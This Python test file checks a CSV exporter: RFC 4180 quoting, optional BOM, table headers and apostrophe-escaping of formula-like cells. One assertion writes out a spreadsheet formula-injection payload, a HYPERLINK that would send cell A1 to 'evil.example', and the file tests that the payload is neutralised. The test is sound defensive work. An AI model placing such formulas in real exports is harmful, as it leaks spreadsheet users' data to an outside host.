"""CSV tables: RFC 4180, UTF-8 with an optional byte order mark, and formula-like text kept inert."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from tests.workbench.export.conftest import HOSTILE
from workbench.export.safety import FORMULA_TRIGGERS, csv_escape, csv_unescape, looks_like_formula


def read(path) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_is_rfc_4180_utf8_without_bom_by_default(sample, export) -> None:
    path = export("claims.csv", table="claims")
    raw = path.read_bytes()
    assert raw.startswith(b'"claim id","group id","rating","outlet",')
    assert b'\r\n1,1,"False","Daily Planet",' in raw  # numbers bare, text quoted (kept as text when read)
    assert raw.count(b"\r\n") == 10 and b"\n" not in raw.replace(b"\r\n", b"")  # CRLF after every record
    assert b'"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"' not in raw  # escaped, see below
    rows = read(path)
    assert len(rows) == 9
    assert rows[1]["outlet"] == "Moscow Times" and rows[1]["published"] == "2022-01-19"
    assert rows[1]["context"].endswith("citing the ministry. Ça va.")  # UTF-8, not mangled
    assert rows[3]["outlet"] == "" and rows[3]["published"] == "" and rows[3]["URL"] == ""


def test_bom_is_added_on_request(sample, export) -> None:
    raw = export("verdicts.csv", bom=True).read_bytes()
    assert raw.startswith(b'\xef\xbb\xbf"group id","claim","claimant","rating",')
    with_bom = raw.decode("utf-8-sig")
    assert next(csv.DictReader(io.StringIO(with_bom, newline="")))["rating"] == "False"


def test_every_table_exports_with_its_header(sample, export) -> None:
    heads = {
        "verdicts": ["group id", "claim", "claimant", "rating", "rationale", "evidence", "appears in", "status",
                     "reviewer", "article URLs", "number of articles", "number of outlets", "independent origins"],
        "claims": ["claim id", "group id", "rating", "outlet", "article title", "quote", "context", "claimant",
                   "drift", "published", "URL", "article id"],
        "links": ["link id", "claim id", "group id", "article id", "outlet", "start", "end", "matched text"],
        "articles": ["article id", "outlet", "title", "URL", "published", "author", "language"],
        "evidence": ["group id", "claim", "rating", "URL", "title", "note"],
    }
    for table, head in heads.items():
        rows = list(csv.reader(export(f"{table}.csv", table=table).open(encoding="utf-8", newline="")))
        assert rows[0][: len(head)] == head
    links = read(export("links.csv", table="links"))
    assert [(r["claim id"], r["linked claim id"], r["score"], r["state"]) for r in links] == [
        ("1", "2", "0.92", "accepted")
    ]


def test_hostile_quotes_get_an_apostrophe_and_read_back_exactly(sample, export) -> None:
    rows = read(export("claims.csv", table="claims"))
    written = {r["quote"] for r in rows}
    for hostile in HOSTILE:
        assert "'" + hostile in written  # no spreadsheet runs a cell that starts with an apostrophe
        assert hostile not in written
    assert all(not v.startswith(FORMULA_TRIGGERS) for r in rows for v in r.values())
    assert {csv_unescape(q) for q in written} >= set(HOSTILE)
    verdicts = read(export("verdicts.csv"))
    assert verdicts[1]["rationale"] == "'=1+1 is not a formula here"


def test_numbers_and_dates_are_plain_values(sample, export) -> None:
    first = read(export("verdicts.csv"))[0]
    assert (first["group id"], first["number of articles"], first["version"]) == ("1", "2", "1")
    assert first["first appearance"] == "2022-01-18"
    assert len(first["updated (UTC)"]) == 19 and first["updated (UTC)"][10] == " "


def test_links_are_written_as_their_urls_and_the_claimant_as_a_line(sample, export) -> None:
    sample.wb.set_claimant(sample.linked_group, "Jane Minister", role="Minister of Labour")
    first = read(export("verdicts.csv"))[0]
    assert first["claimant"] == "Jane Minister, Minister of Labour" and first["claimant type"] == "Person"
    assert first["evidence"] == "https://stats.example/unemployment"  # the URL, not the printed label
    assert first["appears in"] == "Daily Planet, 2022-01-18\nMoscow Times, 2022-01-19"
    assert first["article URLs"] == "https://dailyplanet.example/jobs\nhttps://themoscowtimes.example/2022/01/19/jobs"
    assert read(export("claims.csv", table="claims"))[0]["claimant"] == "Jane Minister, Minister of Labour"


def test_a_leading_carriage_return_saved_as_a_line_feed_loses_its_apostrophe_too() -> None:
    assert csv_escape("\rstarts with CR") == "'\rstarts with CR"
    assert csv_unescape("'\nstarts with CR") == "\nstarts with CR"  # as a spreadsheet saves it back
    assert csv_escape("'\nquoted") == "''\nquoted" and csv_unescape("''\nquoted") == "'\nquoted"


@given(st.text())
def test_csv_escape_is_reversible_and_never_leaves_a_formula(text: str) -> None:
    escaped = csv_escape(text)
    assert csv_unescape(escaped) == text
    assert not looks_like_formula(escaped)


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab,\"\n"), max_size=12))
def test_csv_escape_round_trips_through_the_csv_module(text: str) -> None:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerow([csv_escape(text), "x"])
    row = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert [csv_unescape(row[0]), row[1]] == [text, "x"]
